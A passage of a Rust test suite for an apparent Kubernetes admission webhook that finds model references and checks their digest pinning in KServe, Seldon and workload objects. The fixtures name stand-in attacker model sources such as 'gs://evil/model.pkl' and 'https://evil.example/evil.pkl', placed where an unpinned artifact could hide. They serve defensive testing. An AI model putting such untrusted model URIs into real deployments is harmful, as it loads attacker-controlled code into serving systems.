        assert!(json.get("model_required").is_none() && json.get("unpinned_models").is_none());
    }

    #[test]
    fn every_template_kind_is_read_where_its_api_puts_the_pod_spec() {
        let template = json!({
            "metadata": {"labels": {"app": "scorer"},
                         "annotations": {MODEL_DIGEST_ANNOTATION: digest()}},
            "spec": {"containers": [{"name": "serve", "image": "r.example.com/serve:1",
                                     "env": [{"name": "MODEL_URI", "value": "gs://m/scorer"}]}]}
        });
        let in_spec = json!({"metadata": {"name": "w", "labels": {"tier": "x"}},
                             "spec": {"replicas": 1, "template": template.clone()}});
        let cases = [
            ("apps", "Deployment", in_spec.clone(), "spec.template.spec"),
            ("apps", "StatefulSet", in_spec.clone(), "spec.template.spec"),
            ("apps", "DaemonSet", in_spec.clone(), "spec.template.spec"),
            ("apps", "ReplicaSet", in_spec.clone(), "spec.template.spec"),
            ("batch", "Job", in_spec.clone(), "spec.template.spec"),
            (
                "",
                "ReplicationController",
                in_spec.clone(),
                "spec.template.spec",
            ),
            (
                "",
                "PodTemplate",
                json!({"metadata": {"name": "w", "labels": {"tier": "x"}}, "template": template.clone()}),
                "template.spec",
            ),
            (
                "batch",
                "CronJob",
                json!({"metadata": {"name": "w", "labels": {"tier": "x"}},
                       "spec": {"schedule": "@daily", "jobTemplate": {"spec": {"template": template.clone()}}}}),
                "spec.jobTemplate.spec.template.spec",
            ),
        ];
        for (group, kind, object, spec) in cases {
            let s = summary(group, "v1", kind, object);
            assert_eq!(
                refs(&s),
                vec![(
                    "env",
                    &*format!("{spec}.containers[serve].env[MODEL_URI]"),
                    "gs://m/scorer"
                )],
                "{kind}"
            );
            assert_eq!(s.models[0].digest, digest(), "{kind}");
            assert_eq!(s.models[0].source, "annotation", "{kind}");
            assert_eq!((s.labels.len(), s.name.as_str()), (2, "w"), "{kind}");
            assert_eq!(s.containers.len(), 1, "{kind}");
            assert!(s.runs_containers, "{kind}");
        }
    }

    #[test]
    fn k1_an_explainer_storage_uri_is_a_reference_next_to_an_approved_predictor() {
        let s = isvc(json!({
            "predictor": {"model": {"modelFormat": {"name": "sklearn"},
                                    "storageUri": format!("oci://r.example.com/m@sha256:{HEX}")}},
            "explainer": {"sklearn": {"storageUri": "gs://evil/explainer.pkl"}}
        }));
        assert_eq!(
            refs(&s),
            vec![
                (
                    "storageUri",
                    "spec.explainer.sklearn.storageUri",
                    "gs://evil/explainer.pkl"
                ),
                (
                    "storageUri",
                    "spec.predictor.model.storageUri",
                    &*format!("oci://r.example.com/m@sha256:{HEX}")
                ),
            ]
        );
        assert_eq!(at(&s, "spec.explainer.sklearn.storageUri").digest, None);
        let p = at(&s, "spec.predictor.model.storageUri");
        assert_eq!(
            (p.digest.clone(), p.digest_kind.as_deref()),
            (Some(digest()), Some("oci"))
        );
        assert_eq!(s.models[0].source, "spec.predictor.model.storageUri");
    }

    #[test]
    fn k2_an_annotated_digest_does_not_hide_an_unpinned_storage_uri() {
        let s = summary(
            KSERVE,
            "v1beta1",
            "InferenceService",
            json!({
                "metadata": {"name": "scorer", "annotations": {MODEL_DIGEST_ANNOTATION: digest()}},
                "spec": {"predictor": {"model": {"storageUri": "gs://evil/model.pkl"}}}
            }),
        );
        assert_eq!(s.models[0].source, "annotation");
        assert_eq!(
            refs(&s),
            vec![(
                "storageUri",
                "spec.predictor.model.storageUri",
                "gs://evil/model.pkl"
            )]
        );
        assert_eq!(at(&s, "spec.predictor.model.storageUri").digest, None);
    }

    #[test]
    fn k3_a_sha256_parameter_is_only_a_claim() {
        let s = isvc(json!({"predictor": {"model": {
            "storageUri": format!("https://evil.example/evil.pkl?sha256={HEX}")}}}));
        let r = at(&s, "spec.predictor.model.storageUri");
        assert_eq!(
            (r.digest.clone(), r.digest_kind.as_deref()),
            (Some(digest()), Some("claim"))
        );
        // Still looked up, so that the policy can say why it does not count.
        assert_eq!(s.models[0].digest, digest());
    }

    #[test]
    fn k4_a_storage_uri_env_var_of_a_custom_predictor_is_a_reference() {
        let s = summary(
            KSERVE,
            "v1beta1",
            "InferenceService",
            json!({
                "metadata": {"name": "scorer", "annotations": {MODEL_DIGEST_ANNOTATION: digest()}},
                "spec": {"predictor": {"containers": [{"name": "kserve-container", "image": "r.example.com/custom:1",
                    "env": [{"name": "STORAGE_URI", "value": "gs://evil/model"}]}]}}
            }),
        );
        let r = at(
            &s,
            "spec.predictor.containers[kserve-container].env[STORAGE_URI]",
        );
        assert_eq!(
            (
                r.via.as_str(),
                r.name.as_deref(),
                r.container.as_deref(),
                r.scheme.as_str()
            ),
            ("env", Some("STORAGE_URI"), Some("kserve-container"), "gs")
        );
    }

    #[test]
    fn k5_storage_uris_are_references_in_components_and_model_specs() {
        let s = isvc(json!({"predictor": {
            "model": {"storageUri": format!("oci://r.example.com/m@sha256:{HEX}"),
                      "storageUris": [{"uri": "gs://evil/extra", "mountPath": "/mnt/models/extra"}]},
            "storageUris": [{"uri": "s3://evil/tokenizer", "mountPath": "/mnt/models/tok"},
                            {"uri": format!("oci://r.example.com/tok@sha256:{HEX}"), "mountPath": "/mnt/models/t2"}]
        }}));
        assert_eq!(
            refs(&s),
            vec![
                (
                    "storageUris",
                    "spec.predictor.storageUris[0].uri",
                    "s3://evil/tokenizer"
                ),
                (
                    "storageUris",
                    "spec.predictor.storageUris[1].uri",
                    &*format!("oci://r.example.com/tok@sha256:{HEX}")
                ),
                (
                    "storageUri",
                    "spec.predictor.model.storageUri",
                    &*format!("oci://r.example.com/m@sha256:{HEX}")
                ),
                (
                    "storageUris",
                    "spec.predictor.model.storageUris[0].uri",
                    "gs://evil/extra"
                ),
            ]
        );
        assert_eq!(
            at(&s, "spec.predictor.storageUris[1].uri")
                .digest_kind
                .as_deref(),
            Some("oci")
        );
    }

    #[test]
    fn k7_a_trained_model_is_judged_by_its_storage_uri() {
        let s = summary(
            KSERVE,
            "v1alpha1",
            "TrainedModel",
            json!({
                "metadata": {"name": "model1"},
                "spec": {"inferenceService": "sklearn-iris", "model": {"storageUri": "gs://evil/model.pkl", "framework": "sklearn", "memory": "256Mi"}}
            }),
        );
        assert_eq!(
            refs(&s),
            vec![(
                "trained-model",
                "spec.model.storageUri",
                "gs://evil/model.pkl"
            )]
        );
        assert!(s.runs_containers && s.containers.is_empty());
    }

    #[test]
    fn k11_an_at_sha256_in_a_query_is_no_digest() {
        let s = isvc(json!({"predictor": {"model": {
            "storageUri": format!("https://evil.example/x.pkl?ref=@sha256:{HEX}")}}}));
        let r = at(&s, "spec.predictor.model.storageUri");
        assert_eq!(
            (
                r.scheme.as_str(),
                r.digest.as_deref(),
                r.digest_kind.as_deref()
            ),
            ("https", None, None)
        );
        assert!(s.models.is_empty() && s.invalid_models.is_empty());
    }

    #[test]
    fn k12_a_storage_spec_path_is_a_reference() {
        let s = isvc(json!({"predictor": {
            "model": {"storageUri": format!("oci://r.example.com/m@sha256:{HEX}")},
            "pytorch": {"storage": {"key": "localMinIO", "path": "evil/model.pt", "parameters": {"bucket": "models"}}},
            "sklearn": {"storage": {"storageKey": "legacy", "path": "x"}},
            "logger": {"mode": "all", "storage": {"key": "logs", "path": "isvc-logs"}}
        }}));
        let storage: Vec<_> = s.references.iter().filter(|r| r.via == "storage").collect();
        assert_eq!(storage.len(), 2, "{:#?}", s.references);
        assert_eq!(
            (
                storage[0].source.as_str(),
                storage[0].reference.as_str(),
                storage[0].scheme.as_str()
            ),
            (
                "spec.predictor.pytorch.storage",
                "storage:localMinIO/evil/model.pt",
                "storage"
            )
        );
        assert_eq!(storage[1].reference, "storage:legacy/x");
        assert!(storage[0].digest.is_none());
    }

    #[test]
    fn inference_service_components_canaries_workers_and_model_containers() {
        let s = isvc(json!({
            "predictor": {
                "serviceAccountName": "reader",
                "labels": {"env": "prod", "storageUri": "not-a-model"},
                "annotations": {"image": "x"},
                "storageUri": "gs://component/level",
                "model": {"modelFormat": {"name": "huggingface"}, "image": format!("r.example.com/hf@sha256:{HEX}"),
                          "args": ["--model_id=hf://org/base"], "storageUri": "hf://org/base"},
                "mlserver": {"storageUri": "s3://future/framework"},
                "workerSpec": {"tensorParallelSize": 2, "containers": [{"name": "worker-container", "image": "r.example.com/w:1",
                               "env": [{"name": "MODEL", "value": "s3://worker/model"}]}]}
            },
            "transformer": {"containers": [{"name": "t", "image": "r.example.com/t:1"}]},
            "canary": [{"predictor": {"name": "v2", "sklearn": {"storageUri": "gs://canary/model"}}, "trafficPercent": 10}]
        }));
        assert_eq!(
            refs(&s),
            vec![
                (
                    "storageUri",
                    "spec.canary[0].predictor.sklearn.storageUri",
                    "gs://canary/model"
                ),
                (
                    "storageUri",
                    "spec.predictor.storageUri",
                    "gs://component/level"
                ),
                (
                    "storageUri",
                    "spec.predictor.mlserver.storageUri",
                    "s3://future/framework"
                ),
                (
                    "storageUri",
                    "spec.predictor.model.storageUri",
                    "hf://org/base"
                ),
                ("arg", "spec.predictor.model.args[0]", "hf://org/base"),
                (
                    "env",
                    "spec.predictor.workerSpec.containers[worker-container].env[MODEL]",
                    "s3://worker/model"
                ),
            ]
        );
        assert_eq!(
            at(&s, "spec.predictor.model.args[0]").name.as_deref(),
            Some("--model_id")
        );
        assert_eq!(
            at(&s, "spec.predictor.model.args[0]").container.as_deref(),
            Some("kserve-container")
        );
        let containers: Vec<_> = s
            .containers
            .iter()
            .map(|c| (c.name.as_str(), c.digest.is_some()))
            .collect();
        assert_eq!(
            containers,
            vec![
                ("kserve-container", true),
                ("worker-container", false),
                ("t", false)
            ]
        );
        assert_eq!(s.service_account.as_deref(), Some("reader"));
        // The same shape under the v1alpha1 version.
        let v1alpha1 = summary(
            KSERVE,
            "v1alpha1",
            "InferenceService",
            json!({
            "metadata": {"name": "scorer"},
            "spec": {"predictor": {"tensorflow": {"storageUri": "gs://m/flowers"}}}}),
        );
        assert_eq!(
            refs(&v1alpha1),
            vec![(
                "storageUri",
                "spec.predictor.tensorflow.storageUri",
                "gs://m/flowers"
            )]
        );
    }

    #[test]
    fn kfserving_default_and_canary_endpoints() {
        let s = summary(
            KFSERVING,
            "v1alpha2",
            "InferenceService",
            json!({
                "metadata": {"name": "flowers"},
                "spec": {
                    "default": {"predictor": {"tensorflow": {"storageUri": "gs://m/flowers"}},
                                "explainer": {"alibi": {"type": "AnchorImages", "storageUri": "gs://m/explainer"}},
                                "transformer": {"custom": {"container": {"image": "r.example.com/t:1",
                                    "args": ["--source", "gs://evil/t"]}}}},
                    "canary": {"predictor": {"custom": {"container": {"name": "c", "image": "r.example.com/c:1"}}}},
                    "canaryTrafficPercent": 10
                }
            }),
        );
        assert_eq!(
            refs(&s),
            vec![
                (
                    "storageUri",
                    "spec.default.explainer.alibi.storageUri",
                    "gs://m/explainer"
                ),
                (
                    "storageUri",
                    "spec.default.predictor.tensorflow.storageUri",
                    "gs://m/flowers"
                ),
                (
                    "arg",
                    "spec.default.transformer.custom.container.args[1]",
                    "gs://evil/t"
                ),
            ]
        );
        let names: Vec<_> = s.containers.iter().map(|c| c.name.as_str()).collect();
        assert_eq!(names, vec!["c", "kserve-container"]);
    }

    #[test]
    fn wrong_types_where_a_reference_could_hide_are_located_errors() {
        let pod = |container: Value| json!({"spec": {"containers": [container]}});
        let cases = [
            ("", "Pod", json!({"spec": {"containers": {"name": "x"}}}), "object.spec.containers: expected a list, found an object"),
            ("", "Pod", json!({"spec": {"containers": ["nginx"]}}), "object.spec.containers[0]: expected an object"),
            ("", "Pod", pod(json!({"name": "serve", "env": {"MODEL": "s3://x"}})), "object.spec.containers[serve].env: expected a list"),
            ("", "Pod", pod(json!({"name": "serve", "env": ["MODEL=s3://x"]})), "object.spec.containers[serve].env[0]: expected an object"),
            ("", "Pod", pod(json!({"name": "serve", "env": [{"name": "M", "value": 5}]})), "object.spec.containers[serve].env[M].value: expected a string"),
            ("", "Pod", pod(json!({"name": "serve", "env": [{"name": "M", "valueFrom": {"configMapKeyRef": "cm"}}]})), "object.spec.containers[serve].env[M].valueFrom.configMapKeyRef: expected an object"),
            ("", "Pod", pod(json!({"name": "serve", "args": ["--model", 5]})), "object.spec.containers[serve].args[1]: expected a string"),
            ("", "Pod", pod(json!({"name": "serve", "command": "serve s3://x"})), "object.spec.containers[serve].command: expected a list"),
            ("", "Pod", pod(json!({"name": "serve", "image": 5})), "object.spec.containers[serve].image: expected a string"),
            ("", "Pod", json!({"spec": {"containers": [], "volumes": [{"name": "w", "image": {"reference": 1}}]}}), "object.spec.volumes[w].image.reference: expected a string"),
            ("", "Pod", json!({"metadata": {"annotations": {MODEL_DIGEST_ANNOTATION: 5}}, "spec": {}}), "object.metadata.annotations.modelgate.dev/model-digest: expected a string"),
            ("apps", "Deployment", json!({"spec": {"template": {"spec": {"initContainers": {}}}}}), "object.spec.template.spec.initContainers: expected a list"),
            // K9: a predictor given as a list.
            (KSERVE, "InferenceService", json!({"spec": {"predictor": [{"sklearn": {"storageUri": "gs://x"}}]}}), "object.spec.predictor: expected an object, found a list"),
            (KSERVE, "InferenceService", json!({"spec": {"predictor": {"sklearn": [{"storageUri": "gs://x"}]}}}), "object.spec.predictor.sklearn: expected an object"),
            (KSERVE, "InferenceService", json!({"spec": {"predictor": {"model": {"storageUri": ["gs://x"]}}}}), "object.spec.predictor.model.storageUri: expected a string"),
            (KSERVE, "InferenceService", json!({"spec": {"predictor": {"storageUris": {"uri": "gs://x"}}}}), "object.spec.predictor.storageUris: expected a list"),
            (KSERVE, "InferenceService", json!({"spec": {"predictor": {"model": {"storage": "evil/model.pt"}}}}), "object.spec.predictor.model.storage: expected an object"),
            (KSERVE, "TrainedModel", json!({"spec": {"model": {"storageUri": 1}}}), "object.spec.model.storageUri: expected a string"),
            (KSERVE, "LLMInferenceService", json!({"spec": {"model": {"uri": "hf://a/b", "lora": {"adapters": {"uri": "s3://x"}}}}}), "object.spec.model.lora.adapters: expected a list"),
            ("mlops.seldon.io", "Model", json!({"spec": {"storageUri": {"uri": "gs://x"}}}), "object.spec.storageUri: expected a string"),
            ("machinelearning.seldon.io", "SeldonDeployment", json!({"spec": {"predictors": {"graph": {}}}}), "object.spec.predictors: expected a list"),
            ("machinelearning.seldon.io", "SeldonDeployment", json!({"spec": {"predictors": [{"name": "p", "graph": {"children": [{"modelUri": 3}]}}]}}), "object.spec.predictors[p].graph.children[0].modelUri: expected a string"),
        ];
        for (group, kind, object, expected) in cases {
            let e = error(group, "v1", kind, object);
            assert!(e.contains(expected), "{kind}: {e}");
        }
    }

    #[test]
    fn o5_create_or_update_without_an_object_is_an_error_and_delete_connect_start_nothing() {
        let mut req = request(gvk("", "v1", "Pod"), Value::Null);
        assert!(summarize(&req)
            .unwrap_err()
            .contains("CREATE request must carry the object"));
        req.object = None;
        req.operation = "UPDATE".into();
        assert!(summarize(&req).unwrap_err().contains("UPDATE"));
        req.object = Some(json!("a pod"));
        assert!(summarize(&req)
            .unwrap_err()
            .contains("expected an object, found a string"));
        // An object null on CREATE of a kind the webhook does not check is an error as well.
        let cm = request(gvk("", "v1", "ConfigMap"), Value::Null);
        assert!(summarize(&cm).is_err());
        let pod = json!({"spec": {"containers": [{"name": "s", "image": "evil:latest"}]}});
        for op in ["DELETE", "CONNECT"] {
            let mut r = request(gvk("", "v1", "Pod"), pod.clone());
            r.operation = op.into();
            assert_eq!(summarize(&r), Ok(None), "{op}");
            r.object = None;
            assert_eq!(summarize(&r), Ok(None), "{op}");
        }
        let mut r = request(gvk("", "v1", "Pod"), pod);
        for op in ["PATCH", "create", ""] {
            r.operation = op.into();
            assert!(summarize(&r).unwrap_err().contains("operation"), "{op}");
        }
    }

    #[test]
    fn unknown_kinds_are_summarized_only_when_they_hold_a_pod_spec() {
        // A RayService-like object: pod templates nested under other keys and lists.
        let s = summary(
            "ray.io",
            "v1",
            "RayService",
            json!({
                "metadata": {"name": "llm"},
                "spec": {"rayClusterConfig": {
                    "headGroupSpec": {"template": {
                        "metadata": {"annotations": {MODEL_DIGEST_ANNOTATION: digest()}},
                        "spec": {"containers": [{"name": "head", "image": "rayproject/ray:2.9",
                            "env": [{"name": "MODEL_ID", "value": "hf://org/llm"}]}]}}},
                    "workerGroupSpecs": [{"groupName": "gpu", "template": {"spec": {
                        "containers": [{"name": "worker", "image": "rayproject/ray:2.9"}],
                        "volumes": [{"name": "w", "image": {"reference": "r.example.com/w:1"}}]}}}]
                }},
                "status": {"containers": [{"name": "ignored", "image": "x"}]}
            }),
        );
        assert_eq!(
            refs(&s),
            vec![
                ("env", "spec.rayClusterConfig.headGroupSpec.template.spec.containers[head].env[MODEL_ID]", "hf://org/llm"),
                ("image-volume", "spec.rayClusterConfig.workerGroupSpecs[0].template.spec.volumes[w].image.reference", "r.example.com/w:1"),
            ]
        );
        assert_eq!(s.models[0].source, "annotation");
        assert_eq!(s.containers.len(), 2);
        assert!(s.runs_containers);
        // A kind spelled the way the API server never sends it is still judged by its shape.
        let lower = summary(
            "",
            "v1",
            "pod",
            json!({"metadata": {"name": "p"}, "spec": {"containers": [{"name": "s", "image": "x"}]}}),
        );
        assert_eq!(lower.containers.len(), 1);
        for (kind, object) in [
            (
                "ConfigMap",
                json!({"metadata": {"name": "c"}, "data": {"uri": "s3://m/x"}}),
            ),
            (
                "Secret",
                json!({"metadata": {"name": "s", "annotations": {"x": 5}}, "data": {}}),
            ),
            (
                "Service",
                json!({"spec": {"ports": [{"port": 80}], "containers": []}}),
            ),
        ] {
            let r = summarize(&request(gvk("", "v1", kind), object));
            assert_eq!(r, Ok(None), "{kind}");
        }
    }

    #[test]
    fn serving_runtimes_and_storage_containers_are_judged_by_their_containers() {
        let spec = json!({
            "supportedModelFormats": [{"name": "sklearn", "version": "1", "autoSelect": true}],
            "containers": [{"name": "kserve-container", "image": "r.example.com/sk:1",
                            "args": ["--model_name={{.Name}}", "--model_dir=/mnt/models", "--default_model=gs://defaults/m"]}],
            "workerSpec": {"containers": [{"name": "worker-container", "image": "r.example.com/sk:1"}]},
            "builtInAdapter": {"serverType": "mlserver", "env": [{"name": "MODEL_URI", "value": "s3://adapter/default"}]}
        });
        for kind in ["ServingRuntime", "ClusterServingRuntime"] {
            let s = summary(
                KSERVE,
                "v1alpha1",
                kind,
                json!({"metadata": {"name": "rt"}, "spec": spec.clone()}),
            );
            assert_eq!(
                refs(&s),
                vec![
                    (
                        "arg",
                        "spec.containers[kserve-container].args[2]",
                        "gs://defaults/m"
                    ),
                    (
                        "env",
                        "spec.builtInAdapter.env[MODEL_URI]",
                        "s3://adapter/default"
                    ),
                ],
                "{kind}"
            );
            assert_eq!(s.containers.len(), 2, "{kind}");
        }
        let s = summary(
            KSERVE,
            "v1alpha1",
            "ClusterStorageContainer",
            json!({
                "metadata": {"name": "hf-downloader"},
                "spec": {"container": {"name": "storage-initializer", "image": "r.example.com/downloader:1",
                                       "env": [{"name": "HF_ENDPOINT", "value": "https://mirror.example.com"}]},
                         "supportedUriFormats": [{"prefix": "hf://"}]}
            }),
        );
        assert_eq!(
            refs(&s),
            vec![(
                "env",
                "spec.container.env[HF_ENDPOINT]",
                "https://mirror.example.com"
            )]
        );
        assert_eq!(s.containers[0].role, "init");
        let s = summary(
            KSERVE,
            "v1alpha1",
            "LocalModelCache",
            json!({
                "metadata": {"name": "llama"},
                "spec": {"sourceModelUri": "hf://meta-llama/Llama-3-8B", "modelSize": "16Gi", "nodeGroups": ["gpu"]}
            }),
        );
        assert_eq!(
            refs(&s),
            vec![(
                "local-model-cache",
                "spec.sourceModelUri",
                "hf://meta-llama/Llama-3-8B"
            )]
        );
        assert!(s.runs_containers);
    }

    #[test]
    fn llm_inference_services_name_the_base_model_adapters_and_pod_templates() {
        let pod = |name: &str| {
            json!({"containers": [{"name": name, "image": "vllm/vllm-openai:v0.8",
            "args": [format!("--served-model=s3://{name}/m")]}]})
        };
        let s = summary(
            KSERVE,
            "v1alpha2",
            "LLMInferenceServiceConfig",
            json!({
                "metadata": {"name": "cfg"},
                "spec": {
                    "model": {"uri": format!("oci://r.example.com/llm@sha256:{HEX}"),
                              "lora": {"adapters": [{"name": "a", "uri": "hf://org/a",
                                                     "lora": {"adapters": [{"name": "b", "uri": "s3://nested/b"}]}}]}},
                    "template": pod("main"), "worker": pod("worker"),
                    "prefill": {"template": pod("prefill")},
                    "router": {"scheduler": {"template": pod("scheduler")}}
                }
            }),
        );
        assert_eq!(
            refs(&s),
            vec![
                (
                    "llm-model",
                    "spec.model.uri",
                    &*format!("oci://r.example.com/llm@sha256:{HEX}")
                ),
                (
                    "lora-adapter",
                    "spec.model.lora.adapters[a].uri",
                    "hf://org/a"
                ),
                (
                    "lora-adapter",
                    "spec.model.lora.adapters[a].lora.adapters[b].uri",
                    "s3://nested/b"
                ),
                (
                    "arg",
                    "spec.template.containers[main].args[0]",
                    "s3://main/m"
                ),
                (
                    "arg",
                    "spec.worker.containers[worker].args[0]",
                    "s3://worker/m"
                ),
                (
                    "arg",
                    "spec.prefill.template.containers[prefill].args[0]",
                    "s3://prefill/m"
                ),
                (
                    "arg",
                    "spec.router.scheduler.template.containers[scheduler].args[0]",
                    "s3://scheduler/m"
                ),
            ]
        );
        assert_eq!(s.models[0].source, "spec.model.uri");
    }

    #[test]
    fn seldon_models_servers_and_deployments() {
        let s = summary(
            "mlops.seldon.io",
            "v1alpha1",
            "Model",
            json!({
                "metadata": {"name": "iris"},
                "spec": {"storageUri": "gs://seldon-models/iris", "requirements": ["sklearn"],
                         "parameters": [{"name": "uri", "value": "s3://evil/override"}]}
            }),
        );
        assert_eq!(
            refs(&s),
            vec![
                ("seldon-model", "spec.storageUri", "gs://seldon-models/iris"),
                ("parameter", "spec.parameters[uri]", "s3://evil/override"),
            ]
        );
        assert!(s.runs_containers);
        let s = summary(
            "mlops.seldon.io",
            "v1alpha1",
            "Server",
            json!({
                "metadata": {"name": "mlserver"},
                "spec": {"serverConfig": "mlserver",
                         "podSpec": {"containers": [{"name": "mlserver", "image": "seldonio/mlserver:1.6",
                                                     "env": [{"name": "MLSERVER_MODEL_URI", "value": "gs://evil/m"}]}]},
                         "imageOverrides": {"rclone": {"image": "r.example.com/rclone:1"}, "agent": {}}}
            }),
        );
        assert_eq!(
            refs(&s),
            vec![(
                "env",
                "spec.podSpec.containers[mlserver].env[MLSERVER_MODEL_URI]",
                "gs://evil/m"
            )]
        );
        let names: Vec<_> = s.containers.iter().map(|c| c.name.as_str()).collect();
        assert_eq!(names, vec!["mlserver", "rclone"]);
        let s = summary(
            "machinelearning.seldon.io",
            "v1",
            "SeldonDeployment",
            json!({
                "metadata": {"name": "iris"},
                "spec": {"predictors": [{
                    "name": "default",
                    "graph": {"name": "router", "type": "ROUTER", "children": [
                        {"name": "a", "modelUri": "gs://m/a", "storageInitializerImage": "r.example.com/init:1",
                         "children": [{"name": "b", "modelUri": "s3://m/b"}]}]},
                    "componentSpecs": [{"metadata": {"name": "c"}, "spec": {"serviceAccountName": "seldon",
                        "containers": [{"name": "a", "image": "r.example.com/a:1"}]}}],
                    "explainer": {"type": "AnchorTabular", "modelUri": "gs://m/explainer",
                                  "containerSpec": {"name": "explainer", "image": "r.example.com/alibi:1",
                                                    "args": ["--storage_uri=gs://evil/explainer"]}},
                    "svcOrchSpec": {"env": [{"name": "SELDON_LOG_LEVEL", "value": "DEBUG"}]}
                }]}
            }),
        );
        assert_eq!(
            refs(&s),
            vec![
                (
                    "seldon-graph",
                    "spec.predictors[default].graph.children[a].modelUri",
                    "gs://m/a"
                ),
                (
                    "seldon-graph",
                    "spec.predictors[default].graph.children[a].children[b].modelUri",
                    "s3://m/b"
                ),
                (
                    "seldon-explainer",
                    "spec.predictors[default].explainer.modelUri",
                    "gs://m/explainer"
                ),
                (
                    "arg",
                    "spec.predictors[default].explainer.containerSpec.args[0]",
                    "gs://evil/explainer"
                ),
                (
                    "env",
                    "spec.predictors[default].svcOrchSpec.env[SELDON_LOG_LEVEL]",
                    "DEBUG"
                ),
            ]
        );
        let containers: Vec<_> = s
            .containers
            .iter()
            .map(|c| (c.name.as_str(), c.role.as_str()))
            .collect();
        assert_eq!(
            containers,
            vec![
                ("a-model-initializer", "init"),
                ("a", "container"),
                ("explainer", "container")
            ]
        );
        assert_eq!(s.service_account.as_deref(), Some("seldon"));
    }

    #[test]
    fn kserve_and_seldon_initializers_and_modelcars_in_pods() {
        let s = summary(
            "apps",
            "v1",
            "Deployment",
            json!({
                "metadata": {"name": "d"},
                "spec": {"template": {
                    "metadata": {"annotations": {"internal.serving.kserve.io/localmodel-sourceuri": "gs://cached/m"}},
                    "spec": {
                        "initContainers": [
                            // A source that is no URI is downloaded all the same; a destination
                            // holding a URI is still found.
                            {"name": "storage-initializer", "image": "kserve/storage-initializer:v0.15",
                             "args": ["gs://m/a", "/mnt/models", "/data/local-model", "s3://evil/b", "hf://m/c", "/mnt/c"]},
                            {"name": "classifier-model-initializer", "image": "seldonio/rclone-storage-initializer:1.19",
                             "args": ["s3://m/seldon", "/mnt/models"]},
                            {"name": "modelcar-init", "image": format!("r.example.com/m@sha256:{HEX}")}
                        ],
                        "containers": [
                            {"name": "modelcar-1", "image": format!("r.example.com/m2@sha256:{HEX}")},
                            {"name": "storage-initializer", "image": "x", "args": ["local-path"]}
                        ]
                    }}}
            }),
        );
        assert_eq!(
            refs(&s),
            vec![
                ("annotation", "spec.template.metadata.annotations[internal.serving.kserve.io/localmodel-sourceuri]", "gs://cached/m"),
                ("modelcar", "spec.template.spec.containers[modelcar-1].image", &*format!("r.example.com/m2@sha256:{HEX}")),
                ("storage-initializer", "spec.template.spec.initContainers[storage-initializer].args[0]", "gs://m/a"),
                ("storage-initializer", "spec.template.spec.initContainers[storage-initializer].args[2]", "/data/local-model"),
                ("storage-initializer", "spec.template.spec.initContainers[storage-initializer].args[4]", "hf://m/c"),
                ("arg", "spec.template.spec.initContainers[storage-initializer].args[3]", "s3://evil/b"),
                ("storage-initializer", "spec.template.spec.initContainers[classifier-model-initializer].args[0]", "s3://m/seldon"),
                ("modelcar", "spec.template.spec.initContainers[modelcar-init].image", &*format!("r.example.com/m@sha256:{HEX}")),
            ]
        );
        let mc = at(&s, "spec.template.spec.containers[modelcar-1].image");
        assert_eq!(
            (mc.digest_kind.as_deref(), mc.container.as_deref()),
            (Some("oci"), Some("modelcar-1"))
        );
        assert_eq!(s.models.len(), 1);
    }

    #[test]
    fn the_summary_serializes_to_the_documented_shape() {
        let s = isvc(
            json!({"predictor": {"model": {"storageUri": format!("oci://r/m@sha256:{HEX}")},
            "containers": [{"name": "c", "image": "r/c:1", "args": ["--x=s3://b/k"]}]}}),
        );
        let v = serde_json::to_value(&s).unwrap();
        let keys: Vec<&str> = v.as_object().unwrap().keys().map(String::as_str).collect();
        assert_eq!(
            keys,
            vec![
                "annotations",
                "containers",
                "dry_run",
                "group",
                "images",
                "invalid_models",
                "kind",
                "labels",
                "models",
                "name",
                "namespace",
                "operation",
                "references",
                "runs_containers",
                "uid",
                "version"
            ]
        );
        assert_eq!(
            v["references"][0],
            json!({"source": "spec.predictor.model.storageUri", "via": "storageUri",
                   "ref": format!("oci://r/m@sha256:{HEX}"), "scheme": "oci",
                   "digest": digest(), "digest_kind": "oci"})
        );
        assert_eq!(
            v["references"][1],
            json!({"source": "spec.predictor.containers[c].args[0]", "via": "arg", "container": "c",
                   "name": "--x", "ref": "s3://b/k", "scheme": "s3"})
        );
        assert_eq!(
            v["containers"][0],
            json!({"name": "c", "role": "container", "ref": "r/c:1", "command": [], "args": ["--x=s3://b/k"]})
        );
    }

    /// Every fixture as the API server sends it: `(file, references as (via, source, ref))`,
    /// `None` for reviews that start nothing.
    /// `(via, source, ref)` of each reference of a fixture, in order.
    type Expected = &'static [(&'static str, &'static str, &'static str)];

    const FIXTURES: &[(&str, Option<Expected>)] = &[
        ("clusterservingruntime.json", Some(&[
            ("env", "spec.containers[kserve-container].env[HF_HOME]", "/tmp/hf_home"),
            ("arg", "spec.containers[kserve-container].args[0]", "s3://runtime-defaults/bert"),
        ])),
        ("configmap.json", None),
        ("cronjob.json", Some(&[
            ("env", "spec.jobTemplate.spec.template.spec.containers[batch].env[MODEL_DIR]", "/models"),
            ("arg", "spec.jobTemplate.spec.template.spec.initContainers[fetch-model].args[0]", "gs://models/credit-risk/2026-11/model.onnx"),
        ])),
        ("deployment.json", Some(&[])),
        ("inferenceservice-components.json", Some(&[
            ("storageUri", "spec.canary[0].predictor.pytorch.storageUri", "https://models.example.com/scorer-v2.mar?sha256=b3bd1f13021ed00fda5ae8e632170108005fec038a44881ab90d05d4ddc81745"),
            ("storage", "spec.canary[0].predictor.pytorch.storage", "storage:localMinIO/evil/model.pt"),
            ("storageUri", "spec.explainer.art.storageUri", "gs://evil/explainer.pkl"),
            ("storageUris", "spec.predictor.storageUris[0].uri", "s3://models/credit-risk/tokenizer"),
            ("storageUri", "spec.predictor.model.storageUri", "oci://registry.example.com/models/credit-risk-scorer@sha256:b3bd1f13021ed00fda5ae8e632170108005fec038a44881ab90d05d4ddc81745"),
            ("env", "spec.predictor.model.env[STORAGE_URI]", "gs://evil/model.joblib"),
            ("env", "spec.transformer.containers[kserve-container].env[STORAGE_URI]", "https://evil.example/x.pkl?ref=@sha256:b3bd1f13021ed00fda5ae8e632170108005fec038a44881ab90d05d4ddc81745"),
            ("arg", "spec.transformer.containers[kserve-container].args[1]", "https://feast.example.com/credit"),
        ])),
        ("inferenceservice-v1alpha2.json", Some(&[
            ("storageUri", "spec.canary.predictor.tensorflow.storageUri", "gs://kfserving-samples/models/tensorflow/flowers-2"),
            ("storageUri", "spec.default.predictor.tensorflow.storageUri", "gs://kfserving-samples/models/tensorflow/flowers"),
            ("env", "spec.default.transformer.custom.container.env[STORAGE_URI]", "gs://evil/transformer"),
        ])),
        ("inferenceservice.json", Some(&[
